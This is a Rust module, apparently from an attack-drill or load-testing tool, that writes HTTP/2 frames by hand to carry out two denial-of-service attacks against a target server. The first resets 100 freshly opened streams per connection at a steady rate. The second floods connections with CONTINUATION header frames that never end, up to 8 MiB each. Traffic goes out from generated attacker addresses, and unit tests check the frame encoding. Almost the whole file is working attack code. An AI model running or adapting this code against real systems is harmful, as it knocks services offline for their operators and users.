//! HTTP/2 (RFC 9113) in the clear with prior knowledge, as far as it takes to misuse it. Frames are written by hand: a
//! library would keep the rules.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::army::{Field, Rate, keep, pace};
use super::tally::Outcome;
use super::wire::connect;
use crate::address;
use crate::kind::Kind;
use crate::people::DESK;
use crate::target::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// Streams that are opened and reset in one go, over one connection.
const RESETS: u64 = 100;
/// Bytes of headers that one connection sends: a server that takes so many would take any number.
const CONTINUED_BYTES_MAX: usize = 8 << 20;
/// How long a server has to say that it speaks HTTP/2.
const ANSWER_MAX: Duration = Duration::from_secs(2);

/// A frame: length, type, flags, stream, payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend((stream & 0x7fff_ffff).to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A header block (RFC 7541): GET, http and / from the static table, the authority as a literal that is not indexed.
fn block(host: &str) -> Vec<u8> {
    let mut bytes = vec![0x82, 0x86, 0x84, 0x01];
    // A length under 127 is a byte; no name of a drill's is longer.
    bytes.push(host.len().min(126) as u8);
    bytes.extend(host.bytes().take(126));
    bytes
}

fn opening() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// Whether the server answers HTTP/2's preface with HTTP/2's settings; why not otherwise.
pub(crate) async fn speaks_http2(target: &Target) -> Result<(), String> {
    let ask = async {
        let mut stream = crate::http::connect(target, DESK).await.map_err(|error| error.to_string())?;
        stream.write_all(&opening()).await.map_err(|error| error.to_string())?;
        let mut head = [0; 9];
        match stream.read_exact(&mut head).await {
            Ok(_) if head[3] == SETTINGS && !head.starts_with(b"HTTP/") => Ok(()),
            Ok(_) => Err("the server answers HTTP/2 in the clear with HTTP/1".to_owned()),
            Err(_) => Err("the server ends connections that begin with HTTP/2's preface".to_owned()),
        }
    };
    let late = || Err("the server does not answer HTTP/2's preface".to_owned());
    timeout(ANSWER_MAX, ask).await.unwrap_or_else(|_| late())
}

/// Streams that are reset as soon as they are opened.
pub(super) async fn rapid_reset(field: &Arc<Field>, per_second: f64) {
    let kind = Kind::RapidReset;
    let mut rng = field.rng(kind);
    pace(field, kind, Rate::Steady(per_second), RESETS, || {
        let from = address::of_attacker(&mut rng, field.orders.addresses);
        let field = Arc::clone(field);
        async move {
            let tally = field.tallies.of(kind);
            let outcome = match connect(&field.orders.target, from).await {
                Ok(stream) => reset(stream, &field.orders.target.host).await,
                Err(outcome) => outcome,
            };
            for _ in 0..RESETS {
                tally.end(outcome);
            }
        }
    })
    .await;
}

async fn reset(mut stream: TcpStream, host: &str) -> Outcome {
    let mut bytes = opening();
    for number in 0..RESETS as u32 {
        let id = 2 * number + 1;
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &block(host)));
        bytes.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
    }
    if stream.write_all(&bytes).await.is_err() {
        return Outcome::Cut;
    }
    // Does the server still want to hear from us?
    let mut answer = Vec::new();
    let listened = timeout(Duration::from_millis(200), stream.read_to_end(&mut answer)).await;
    if has_goaway(&answer) || listened.is_ok() { Outcome::Cut } else { Outcome::Status(200) }
}

/// Whether GOAWAY is among the frames.
fn has_goaway(mut bytes: &[u8]) -> bool {
    while let Some((head, rest)) = bytes.split_at_checked(9) {
        if head[3] == 7 {
            return true;
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let Some(next) = rest.get(length..) else { return false };
        bytes = next;
    }
    false
}

/// Header blocks that never end.
pub(super) async fn continuation(field: &Arc<Field>, connections: f64) {
    let kind = Kind::Continuation;
    let mut rng = field.rng(kind);
    keep(field, kind, connections, || {
        let from = address::of_attacker(&mut rng, field.orders.addresses);
        let field = Arc::clone(field);
        async move {
            let mut stream = match connect(&field.orders.target, from).await {
                Ok(stream) => stream,
                Err(outcome) => return outcome,
            };
            let mut bytes = opening();
            bytes.extend(frame(HEADERS, END_STREAM, 1, &block(&field.orders.target.host)));
            // "x: aaa…", a literal that is not indexed; 16000 = 127 + 0x81 0x7c in HPACK's prefix integers.
            let mut piece = vec![0x00, 1, b'x', 0x7f, 0x81, 0x7c];
            piece.extend(std::iter::repeat_n(b'a', 16_000));
            let more = frame(CONTINUATION, 0, 1, &piece);
            let mut sent = 0;
            while sent < CONTINUED_BYTES_MAX {
                if stream.write_all(&bytes).await.is_err() {
                    return Outcome::Cut;
                }
                sent += bytes.len();
                bytes.clone_from(&more);
            }
            Outcome::Status(200)
        }
    })
    .await;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_those_of_the_rfc() {
        assert_eq!(frame(RST_STREAM, 0, 3, &CANCEL.to_be_bytes()), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        assert_eq!(frame(SETTINGS, 0, 0, &[]), [0, 0, 0, 4, 0, 0, 0, 0, 0]);
        assert_eq!(block("ab"), [0x82, 0x86, 0x84, 0x01, 2, b'a', b'b']);
        // 16000 as RFC 7541, 5.1 writes it with a prefix of seven bits.
        assert_eq!(127 + 0x01 + (0x7c << 7), 16_000);
    }

    #[test]
    fn goaway_is_found_behind_other_frames() {
        let mut bytes = frame(SETTINGS, 0, 0, &[0; 6]);
        assert!(!has_goaway(&bytes));
        bytes.extend(frame(7, 0, 0, &[0; 8]));
        assert!(has_goaway(&bytes));
        assert!(!has_goaway(&bytes[..12]));
    }
}
